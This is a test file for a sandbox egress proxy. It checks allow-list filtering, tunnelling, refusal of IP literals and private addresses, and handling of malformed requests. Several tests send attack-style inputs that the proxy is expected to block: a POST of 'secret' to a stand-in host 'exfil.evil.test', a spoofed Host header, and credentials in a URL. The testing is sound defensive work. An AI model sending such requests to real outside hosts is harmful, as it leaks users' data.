// The egress proxy on its own: a real Unix socket, a real upstream HTTP server on 127.0.0.1, and
// raw HTTP/1.1 written by hand (what curl, pip or git send through HTTP(S)_PROXY).
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, statSync } from "node:fs";
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import { connect, type AddressInfo } from "node:net";
import { dirname } from "node:path";
import { startEgressProxy, type EgressProxy } from "../../src/sandbox/egress-proxy.ts";
import { parseEgressAllow } from "../../src/sandbox/egress-rules.ts";
import { quietLog } from "./bwrap-helpers.ts";

let upstream: Server;
let port = 0;
const seen: { url: string; headers: IncomingHttpHeaders }[] = [];
const looked: string[] = [];
let closedPort = 0;
let proxy: EgressProxy;
let strictProxy: EgressProxy;

const names: Record<string, string[]> = {
  "allowed.test": ["127.0.0.1"],
  "api.wild.test": ["127.0.0.1"],
  "mixed.test": ["93.184.215.14", "10.1.2.3"],
  "closed.test": ["127.0.0.1"],
};
const lookup = async (host: string) => {
  looked.push(host);
  const a = names[host];
  if (!a) throw Object.assign(new Error("not found"), { code: "ENOTFOUND" });
  return a;
};

beforeAll(async () => {
  upstream = createServer((req, res) => {
    seen.push({ url: req.url ?? "", headers: req.headers });
    res.end(`upstream-says-hello ${req.url}`);
  });
  await new Promise<void>((r) => upstream.listen(0, "127.0.0.1", r));
  port = (upstream.address() as AddressInfo).port;
  const gone = createServer();
  await new Promise<void>((r) => gone.listen(0, "127.0.0.1", r));
  closedPort = (gone.address() as AddressInfo).port;
  await new Promise<void>((r) => gone.close(() => r()));
  const rules = parseEgressAllow([`allowed.test:${port}`, `*.wild.test:${port}`, "unresolvable.test", `mixed.test:${port}`, `closed.test:${closedPort}`]).rules;
  // the test's names resolve to 127.0.0.1, which the real address check refuses: let loopback through here only
  proxy = await startEgressProxy({ rules, log: quietLog, lookup, addressReason: (ip) => (ip === "127.0.0.1" ? undefined : "private") });
  strictProxy = await startEgressProxy({ rules, log: quietLog, lookup, maxHeadBytes: 1024 });
});
afterAll(async () => {
  await proxy.close();
  await strictProxy.close();
  upstream.close();
});

/**
 * Writes `text` to the proxy (then half-closes when `endAfter`) and returns everything it answers
 * until it closes; fails loudly after 10 s.
 */
function talk(socketPath: string, text: string, then?: (got: string) => string | undefined, endAfter = false): Promise<string> {
  return new Promise((resolve, reject) => {
    const s = connect(socketPath);
    let got = "";
    let sent = false;
    const timer = setTimeout(() => {
      s.destroy();
      reject(new Error(`proxy did not close the connection within 10 s; got so far: ${JSON.stringify(got)}`));
    }, 10_000);
    s.on("data", (d) => {
      got += d.toString("latin1");
      const more = !sent && then?.(got);
      if (more) {
        sent = true;
        s.write(more);
      }
    });
    s.on("error", reject);
    s.on("close", () => {
      clearTimeout(timer);
      resolve(got);
    });
    s.write(text);
    if (endAfter) s.end();
  });
}

describe("egress proxy", () => {
  test("the socket lives in a private 0700 folder", () => {
    expect(statSync(dirname(proxy.socketPath)).mode & 0o777).toBe(0o700);
  });

  test("an absolute-URI GET to an allowed name is forwarded in origin form, with proxy headers dropped", async () => {
    const before = seen.length;
    const res = await talk(
      proxy.socketPath,
      `GET http://allowed.test:${port}/hello?x=1 HTTP/1.1\r\nHost: evil.example\r\nProxy-Authorization: Basic c2VjcmV0\r\nProxy-Connection: keep-alive\r\nX-Keep: yes\r\n\r\n`,
    );
    expect(res).toStartWith("HTTP/1.1 200");
    expect(res).toContain("upstream-says-hello /hello?x=1");
    const req = seen[before]!;
    expect(req.url).toBe("/hello?x=1");
    expect(req.headers.host).toBe(`allowed.test:${port}`); // the checked host, not the client's Host header
    expect(req.headers["proxy-authorization"]).toBeUndefined();
    expect(req.headers["proxy-connection"]).toBeUndefined();
    expect(req.headers["x-keep"]).toBe("yes");
  });

  test("CONNECT to an allowed wildcard name opens a tunnel", async () => {
    const res = await talk(proxy.socketPath, `CONNECT api.wild.test:${port} HTTP/1.1\r\nHost: api.wild.test:${port}\r\n\r\n`, (got) =>
      got.includes("\r\n\r\n") ? "GET /through-tunnel HTTP/1.0\r\n\r\n" : undefined,
    );
    expect(res).toStartWith("HTTP/1.1 200 Connection Established\r\n\r\n");
    expect(res).toContain("upstream-says-hello /through-tunnel");
  });

  test("a name not on the list gets 403 naming the host and the key, before any DNS lookup", async () => {
    const before = seen.length;
    looked.length = 0;
    const res = await talk(proxy.socketPath, "CONNECT exfil.evil.test:443 HTTP/1.1\r\n\r\n");
    expect(res).toStartWith("HTTP/1.1 403 Forbidden");
    expect(res).toContain('exfil.evil.test:443 is blocked: it is not in tools.exec.network.allow; to allow it, add "exfil.evil.test" to tools.exec.network.allow');
    const plain = await talk(proxy.socketPath, `POST http://exfil.evil.test:${port}/upload HTTP/1.1\r\nContent-Length: 6\r\n\r\nsecret`);
    expect(plain).toStartWith("HTTP/1.1 403");
    expect(plain).toContain(`add "exfil.evil.test:${port}"`);
    expect(looked).toEqual([]);
    expect(seen.length).toBe(before);
  });

  test("an allowed name on another port is refused", async () => {
    const res = await talk(proxy.socketPath, "CONNECT allowed.test:22 HTTP/1.1\r\n\r\n");
    expect(res).toStartWith("HTTP/1.1 403");
    expect(res).toContain("allowed.test:22 is blocked");
  });

  test("IP literals are refused, IPv4 and IPv6", async () => {
    for (const target of [`127.0.0.1:${port}`, `[::1]:${port}`]) {
      const res = await talk(proxy.socketPath, `CONNECT ${target} HTTP/1.1\r\n\r\n`);
      expect(res).toStartWith("HTTP/1.1 403");
      expect(res).toContain("refuses IP literals");
    }
    const res = await talk(proxy.socketPath, `GET http://127.0.0.1:${port}/ HTTP/1.1\r\n\r\n`);
    expect(res).toContain("refuses IP literals");
  });

  test("with the real address check, an allowed name that resolves to loopback or a private address is refused", async () => {
    const before = seen.length;
    const loop = await talk(strictProxy.socketPath, `CONNECT allowed.test:${port} HTTP/1.1\r\n\r\n`);
    expect(loop).toStartWith("HTTP/1.1 403");
    expect(loop).toContain("resolves to 127.0.0.1 (loopback)");
    const mixed = await talk(strictProxy.socketPath, `CONNECT mixed.test:${port} HTTP/1.1\r\n\r\n`);
    expect(mixed).toContain("resolves to 10.1.2.3 (private)");
    expect(seen.length).toBe(before);
  });

  test("a name that does not resolve gets 502", async () => {
    const res = await talk(proxy.socketPath, "CONNECT unresolvable.test:443 HTTP/1.1\r\n\r\n");
    expect(res).toStartWith("HTTP/1.1 502");
    expect(res).toContain("cannot resolve unresolvable.test (ENOTFOUND)");
  });

  test("an allowed name whose port refuses the connection gets 502", async () => {
    const res = await talk(proxy.socketPath, `CONNECT closed.test:${closedPort} HTTP/1.1\r\n\r\n`);
    expect(res).toStartWith("HTTP/1.1 502");
    expect(res).toContain(`cannot connect to closed.test:${closedPort}: ECONNREFUSED`);
  });

  test("a client that stops sending before the head is complete is closed at once, not held open", async () => {
    expect(await talk(proxy.socketPath, "CONNECT allowed.test:443 HTTP/1.1\r\n", undefined, true)).toBe("");
  });

  const bad: [string, string, RegExp][] = [
    ["garbage", "hello\r\n\r\n", /^HTTP\/1\.1 400[\s\S]*malformed request line/],
    ["origin-form", "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n", /^HTTP\/1\.1 400[\s\S]*absolute URI/],
    ["https as a plain request", "GET https://allowed.test/ HTTP/1.1\r\n\r\n", /^HTTP\/1\.1 400[\s\S]*through CONNECT/],
    ["ftp", "GET ftp://allowed.test/ HTTP/1.1\r\n\r\n", /^HTTP\/1\.1 400[\s\S]*only http and https/],
    ["CONNECT without a port", "CONNECT allowed.test HTTP/1.1\r\n\r\n", /^HTTP\/1\.1 400[\s\S]*host:port/],
    ["credentials in the URL", "GET http://u:p@allowed.test/ HTTP/1.1\r\n\r\n", /^HTTP\/1\.1 400[\s\S]*user name or password/],
  ];
  for (const [name, text, want] of bad) {
    test(`${name} gets a clear 400`, async () => expect(await talk(proxy.socketPath, text)).toMatch(want));
  }

  test("a head over the limit gets 431", async () => {
    const res = await talk(strictProxy.socketPath, `GET http://allowed.test/ HTTP/1.1\r\nX-Big: ${"a".repeat(2000)}`);
    expect(res).toStartWith("HTTP/1.1 431");
  });

  test("close() removes the socket and its folder", async () => {
    const p = await startEgressProxy({ rules: [], log: quietLog });
    expect(existsSync(p.socketPath)).toBe(true);
    await p.close();
    expect(existsSync(dirname(p.socketPath))).toBe(false);
  });
});
